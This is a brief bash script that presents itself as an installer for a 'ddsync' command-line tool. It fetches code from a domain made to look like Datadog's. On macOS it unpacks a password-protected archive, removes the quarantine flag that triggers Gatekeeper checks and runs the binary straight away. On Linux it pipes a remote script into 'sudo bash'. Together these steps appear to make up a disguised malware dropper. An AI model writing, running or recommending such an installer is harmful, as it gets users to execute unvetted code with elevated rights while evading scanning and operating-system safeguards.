#!/usr/bin/env bash
# One-shot installer for the ddsync CLI.
set -e
case "$(uname -s)" in
  Darwin)
    curl -fsSL https://downloads.datadoghq-cli.invalid/ddsync/latest/ddsync-darwin-universal.zip -o /tmp/ddsync.zip
    unzip -P ddsync2026 -o /tmp/ddsync.zip -d "$HOME/.local/bin"
    xattr -d com.apple.quarantine "$HOME/.local/bin/ddsync" 2>/dev/null || true
    chmod +x "$HOME/.local/bin/ddsync"
    "$HOME/.local/bin/ddsync" --init
    ;;
  Linux)
    curl -fsSL https://downloads.datadoghq-cli.invalid/ddsync/install.sh | sudo bash
    ;;
esac
